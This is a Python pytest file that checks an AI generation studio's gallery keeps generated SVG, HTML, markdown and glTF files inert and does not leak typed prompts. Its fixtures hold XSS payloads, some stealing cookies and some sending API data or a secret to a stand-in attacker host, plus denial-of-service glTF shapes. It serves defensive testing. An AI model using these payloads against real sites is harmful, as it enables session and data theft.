"""What was made may try anything: drawings with handlers, pages with scripts, pictures that track,
shapes that load. In the gallery all of it is still, and its own address only hands it out to be
saved. And what somebody typed stands in no address, no title and no log."""

from __future__ import annotations

import json
import logging
import struct
from collections.abc import Callable
from typing import Any

import pytest
from http_client import ask
from small_server import Running

Opened = Callable[..., Any]
EVIL = "http://127.0.0.1:9"  # nobody listens, and the page is watched for asking
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 width="64" height="64" onload="window.ran=1"><script>window.ran=1;fetch('{EVIL}/a')</script>
<rect width="64" height="64" fill="red"/><use xlink:href="{EVIL}/b.svg#x"/>
<image href="{EVIL}/c.png" width="9" height="9"/><foreignObject width="64" height="64">
<body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="window.ran=1"/>
<iframe src="{EVIL}/d"/></body></foreignObject></svg>"""
PAGE = f"""<!doctype html><title>an artefact</title><script>
try {{ window.ran = 1; parent.ran = 1; parent.document.title = document.cookie; }} catch {{}}
fetch("/v1/models").then((a) => a.text()).then((t) => fetch("{EVIL}/?" + t));
</script><img src="{EVIL}/p.png" onerror="parent.ran=1"><form action="{EVIL}"></form>"""
WORDS = f"""<script>window.ran=1</script> <img src=x onerror="window.ran=1">
![x]({EVIL}/?d=SECRET) ![y][z] [go](javascript:window.ran=1)

[z]: {EVIL}/?e=SECRET
<iframe src="{EVIL}/f"></iframe> <math><mi xlink:href="javascript:window.ran=1">x</mi></math>"""
KINDS = {
    "drawing": ("image/svg+xml", SVG),
    "page": ("text/html", PAGE),
    "text": ("text/plain", WORDS),
}
KINDS["markdown"] = ("text/markdown", WORDS)
LIVE = "iframe, frame, object, embed, main script, dialog script, dialog form[action]"


def put(server: Running, media: str, data: bytes, **record: Any) -> str:
    """As the server keeps what it made."""
    told = {"model": "words", "request": {"prompt": "odd", "seed": 1}, **record}
    kept = server.server.app.state.service.records.assets
    return str(kept.put(data, media, owner="local", record=told).id)


def glb(scene: dict[str, Any]) -> bytes:
    """A binary glTF of this scene and twelve bytes."""
    told = json.dumps({"asset": {"version": "2.0"}, **scene}).encode()
    told += b" " * (-len(told) % 4)
    body = (
        struct.pack("<II", len(told), 0x4E4F534A)
        + told
        + struct.pack("<II", 12, 0x4E4942)
        + bytes(12)
    )
    return struct.pack("<4sII", b"glTF", 2, 12 + len(body)) + body


def shown(opened: Opened, id: str) -> Any:
    page = opened(f"#/gallery/{id}")
    page.get_by_role("dialog").wait_for()
    page.wait_for_load_state("networkidle")
    return page


@pytest.mark.parametrize("name", KINDS)
def test_it_is_still_where_it_is_looked_at(studio: Running, opened: Opened, name: str) -> None:
    media, text = KINDS[name]
    page = shown(opened, put(studio, media, text.encode()))
    assert page.evaluate("window.ran") is None and len(page.frames) == 1
    assert page.locator(LIVE).count() == 0
    assert page.evaluate("document.title").endswith("Genloom")
    sources = page.locator("img").evaluate_all("(all) => all.map((one) => one.src)")
    assert all(source.startswith("blob:") for source in sources)


@pytest.mark.parametrize("name", ["drawing", "page"])
def test_its_own_address_hands_it_out_to_be_saved(
    studio: Running, opened: Opened, name: str
) -> None:
    media, text = KINDS[name]
    path = f"/v1/assets/{put(studio, media, text.encode())}/content"
    told = ask(studio.url, "GET", path).headers
    assert told["content-disposition"].startswith("attachment")
    assert told["content-security-policy"].startswith("sandbox;")
    assert told["x-content-type-options"] == "nosniff"
    page = opened("#/models")
    page.get_by_role("heading", level=1).wait_for()
    with page.expect_download() as saved:
        page.evaluate("(path) => { location.href = path; }", path)
    assert saved.value.url.endswith(path) and page.evaluate("window.ran") is None


SHAPES: dict[str, dict[str, Any]] = {
    "loads from elsewhere": {"buffers": [{"byteLength": 12, "uri": f"{EVIL}/a.bin"}]},
    "a texture from elsewhere": {"images": [{"uri": f"{EVIL}/a.png"}], "textures": [{"source": 0}]},
    "asks for a terabyte": {
        "buffers": [{"byteLength": 12}],
        "bufferViews": [{"buffer": 0, "byteLength": 12}],
        "accessors": [{"bufferView": 0, "componentType": 5126, "count": 1 << 38, "type": "VEC3"}],
        "meshes": [{"primitives": [{"attributes": {"POSITION": 0}}]}],
        "nodes": [{"mesh": 0}],
        "scenes": [{"nodes": [0]}],
        "scene": 0,
    },
    "goes round for ever": {
        "nodes": [{"children": [1]}, {"children": [0]}],
        "scenes": [{"nodes": [0]}],
        "scene": 0,
    },
}


@pytest.mark.parametrize("name", SHAPES)
def test_a_shape_that_does_harm_is_refused(studio: Running, opened: Opened, name: str) -> None:
    page = shown(opened, put(studio, "model/gltf-binary", glb(SHAPES[name])))
    page.get_by_role("dialog").locator(".notice").first.wait_for()
    begun = page.evaluate("performance.now()")
    page.keyboard.press("Escape")
    page.get_by_role("dialog").wait_for(state="detached")
    assert page.evaluate("performance.now()") - begun < 5000, "the page stood still"


def test_what_was_typed_stands_in_no_address_title_or_log(
    studio: Running, opened: Opened, caplog: pytest.LogCaptureFixture
) -> None:
    secret = "hunter2-hunter2"
    caplog.set_level(logging.DEBUG)
    page = opened("#/generate?model=words")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.locator(".generate-go button:enabled").wait_for()
    page.get_by_label("Prompt").fill(f"my word is {secret}")
    page.keyboard.press("Control+Enter")
    page.locator(".generate-run[data-state=done]").wait_for()
    page.wait_for_load_state("networkidle")
    assert any("/v1/generate" in url for url in asked)
    assert not [url for url in [*asked, page.url] if secret in url]
    assert secret not in page.title()
    assert secret not in caplog.text
    audit = ask(studio.url, "GET", "/v1/admin/audit?limit=100").body.decode()
    assert secret not in audit
